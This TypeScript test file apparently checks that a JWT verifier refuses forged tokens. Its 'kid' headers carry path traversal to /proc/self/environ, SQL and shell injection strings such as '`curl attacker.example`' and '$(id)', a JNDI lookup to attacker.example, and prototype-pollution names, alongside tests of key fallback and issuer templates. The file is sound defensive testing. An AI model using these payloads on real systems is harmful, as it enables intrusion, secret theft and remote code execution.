import { createHmac } from 'node:crypto';
import type { JsonValue } from '../../src/shared/json-value.js';
import { forged, hinted } from './header-injection-attacks.js';
import { accepted, refused, show, type TokenOf, type Vector } from './vector.js';
import { issuerOf } from './world.js';

const paths = [
  '../../../../dev/null',
  '/dev/null',
  '/proc/self/environ',
  '..%2f..%2fdev%2fnull',
  'C:\\Windows\\win.ini',
  'file:///dev/null',
];
const injections = [
  ...[
    "x' UNION SELECT 'key';--",
    "' OR 1=1--",
    '|sleep 10',
    '`curl attacker.example`',
    '${jndi:ldap://attacker.example}',
  ],
  ...['{{7*7}}', '%00', '$(id)', '"; DROP TABLE keys', '*'],
];
const builtIns = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'length', '0', ''];

const strangeNames: readonly Vector[] = [
  ...paths.map((kid) =>
    refused('B-05', `kid ${show(kid)}, HMAC over an empty file`, 'algorithm_unsupported', ({ good }) =>
      good
        .header({ alg: 'HS256', kid })
        .signature((input) => createHmac('sha256', '').update(input).digest())
        .build(),
    ),
  ),
  ...paths.map((kid) =>
    refused(
      'B-05',
      `kid ${show(kid)}`,
      'key_unknown',
      forged(() => ({ kid })),
      1,
    ),
  ),
  ...injections.map((kid) =>
    refused(
      'B-06',
      `kid ${show(kid)}`,
      'key_unknown',
      forged(() => ({ kid })),
      1,
    ),
  ),
  ...builtIns.map((kid) =>
    refused(
      'B-07',
      `kid ${show(kid)}`,
      'key_unknown',
      forged(() => ({ kid })),
      1,
    ),
  ),
];

const notNames: readonly Vector[] = [1, true, null, [], {}, ['es'], { es: 'es' }].map((kid: JsonValue) =>
  refused(
    'B-08',
    `kid ${show(kid)}`,
    'header_invalid',
    hinted(() => ({ kid })),
  ),
);

const nearNames: readonly Vector[] = [
  ...['ES', 'Es', ' es', 'es ', 'es\r\n', 'e\u0301s', '\u00e9s', 'es\u0000', '\uff45\uff53'].map((kid) =>
    refused(
      'B-09',
      `kid ${show(kid)}`,
      'key_unknown',
      hinted(() => ({ kid })),
      1,
    ),
  ),
  refused(
    'B-09',
    'kid of 257 characters',
    'header_invalid',
    hinted(() => ({ kid: 'k'.repeat(257) })),
  ),
  refused(
    'B-09',
    'kid of 1 MiB',
    'oversized',
    hinted(() => ({ kid: 'k'.repeat(1 << 20) })),
  ),
];

/** A token of one tenant of a provider whose tenants share their keys. */
function ofTenant(id: string, tenant: string): TokenOf {
  return ({ good, world }) => good.from(issuerOf(world, id)).with({ tenant }).build();
}

const withoutName: readonly Vector[] = [
  accepted('B-12', 'no kid, one key fits', ({ good, world }) =>
    good.from(issuerOf(world, 'lonely')).signedBy(world.keys.lonely).header({ kid: undefined }).build(),
  ),
  accepted('B-12', 'no kid, three keys fit, the last one signed', ({ good, world }) =>
    good.from(issuerOf(world, 'same-kid')).signedBy(world.keys.sameKid.second).header({ kid: undefined }).build(),
  ),
  refused('B-12', 'no kid, three keys fit, none signed', 'signature_invalid', ({ good, world }) =>
    good.from(issuerOf(world, 'same-kid')).header({ kid: undefined }).build(),
  ),
  refused(
    'B-12',
    'no kid, no key fits',
    'key_unknown',
    ({ good, world }) =>
      good.from(issuerOf(world, 'lonely')).signedBy(world.keys.ed).header({ kid: undefined }).build(),
    1,
  ),
  refused(
    'B-12',
    'a kid never falls back to the only fitting key',
    'key_unknown',
    ({ good, world }) =>
      good.from(issuerOf(world, 'lonely')).signedBy(world.keys.lonely).header({ kid: 'other' }).build(),
    1,
  ),
];

const crowd: readonly Vector[] = [
  accepted('B-12', 'no kid, four RSA keys fit, the first one signed', ({ good, world }) =>
    good.signedBy(world.keys.rs).header({ kid: undefined }).build(),
  ),
  refused(
    'B-12',
    'no kid, more keys fit than are tried',
    'key_unknown',
    ({ good, world }) => good.from(issuerOf(world, 'crowded')).header({ kid: undefined }).build(),
    1,
  ),
  accepted('B-12', 'the same with a kid', ({ good, world }) => good.from(issuerOf(world, 'crowded')).build()),
];

const sharedName: readonly Vector[] = (['first', 'second', 'rsa'] as const).map((name) =>
  accepted('B-13', `three keys with one kid, signed by the ${name}`, ({ good, world }) =>
    good.from(issuerOf(world, 'same-kid')).signedBy(world.keys.sameKid[name]).build(),
  ),
);

const misdeclared: readonly Vector[] = Array.from({ length: 14 }, (_, index) =>
  refused(
    'B-14',
    `signed by the misdeclared key ${index}`,
    'key_unknown',
    ({ good, world }) => good.from(issuerOf(world, 'bad')).signedBy(world.keys.bad.misdeclared[index]!.key).build(),
    1,
  ),
);

const templates = [
  'https://evil.example/../login.corp.example',
  'https://login.corp.example/{tenant}',
  'https://login.corp.example/.*',
  '.*',
  'https://*.corp.example',
];

/** Table 2.B, rows about names and matching keys, except what needs a changing key set (B-10, B-15, B-16). */
export const keySelectionAttacks: readonly Vector[] = [
  ...strangeNames,
  ...notNames,
  ...nearNames,
  refused(
    'B-11',
    "tenant a signs as its neighbour, who shares its keys: the neighbour's rule refuses",
    'rule_failed',
    ofTenant('tenant-b', 'a'),
  ),
  accepted('B-11', 'tenant b signs as itself', ofTenant('tenant-b', 'b')),
  ...withoutName,
  ...crowd,
  accepted('B-13', 'one key under two names, by its other name', ({ good, world }) =>
    good.from(issuerOf(world, 'same-kid')).signedBy(world.keys.sameKid.first).header({ kid: 'other-name' }).build(),
  ),
  ...sharedName,
  ...misdeclared,
  ...templates.map((iss) => refused('B-17', `iss ${iss}`, 'issuer_unknown', ({ good }) => good.with({ iss }).build())),
  ...['iss', 'sub', 'aud'].map((claim) =>
    refused(
      'B-18',
      `${claim} in the header says something else`,
      'header_invalid',
      hinted(() => ({ [claim]: 'other' })),
    ),
  ),
  accepted('B-18', 'the header says what the payload says', ({ good }) => {
    const replicated = { iss: 'https://login.corp.example', sub: 'alice', aud: ['https://api.corp.example'] };
    return good.with(replicated).header(replicated).build();
  }),
  refused('B-18', 'aud in the header that the payload does not have', 'header_invalid', ({ good }) =>
    good.with({ aud: undefined }).header({ aud: 'https://api.corp.example' }).build(),
  ),
];
